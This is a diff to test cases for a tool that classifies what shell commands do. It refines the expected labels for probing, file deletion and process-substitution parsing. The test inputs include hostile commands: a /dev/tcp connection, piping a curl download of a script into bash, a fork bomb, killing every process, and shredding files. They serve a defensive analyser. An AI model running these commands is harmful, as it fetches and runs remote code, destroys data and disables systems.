@@ -41,7 +41,7 @@ describe('what a shell command acts on', () => {
     ],
     ['exec 3<>/dev/tcp/h.example/80', ['network.connect /dev/tcp h.example:80']],
     ['source ./a.sh', ['code.eval source ./a.sh']],
-    ["bash -c 'id; uname'", ['code.eval bash id; uname']],
+    ["bash -c 'id; uname'", ['code.eval bash id; uname', 'system.probe id', 'system.probe uname']],
     ["python3 -c 'print(1)'", ['code.eval python3 print(1)']],
     ['eval "$(fetch x)"', ['code.eval eval "$(fetch x)"', 'process.spawn fetch fetch x']],
     ['kill -9 -1', ['process.signal kill -1']],
@@ -56,8 +56,8 @@ describe('what a shell command acts on', () => {
     ['systemctl enable x', ['system.persist systemctl systemctl enable x']],
     ['printenv HOME', ['environment.read printenv HOME']],
     ['env', ['environment.read env *']],
-    ["find /a -name '*.o' -delete", ['file.read find /a', 'file.delete find /a']],
-    ['find /a -exec shred {} \\;', ['file.read find /a', 'file.delete shred']],
+    ["find /a -name '*.o' -delete", ['file.read find /a', 'file.delete find /a/**/*.o']],
+    ['find /a -exec shred {} \\;', ['file.read find /a', 'file.delete shred /a']],
     ['for f in a b; do rm "/tmp/$f"; done', ['file.delete rm /tmp/a /tmp/b']],
     [':(){ :|:& };:', ['resource.exhaust fork a function that forks itself without end']],
     ['./tool --fast', ['process.spawn tool tool --fast']],
@@ -82,7 +82,7 @@ describe('what a shell reads as code', () => {
     const { sites } = await inspected('bash', 'bash <(curl -s https://x.example/i.sh)\n');
     expect(sites[0]).toMatchObject({
       capability: 'code.eval',
-      arguments: { from: '<(curl -s https://x.example/i.sh)' },
+      arguments: { from: 'curl -s https://x.example/i.sh' },
     });
   });
 
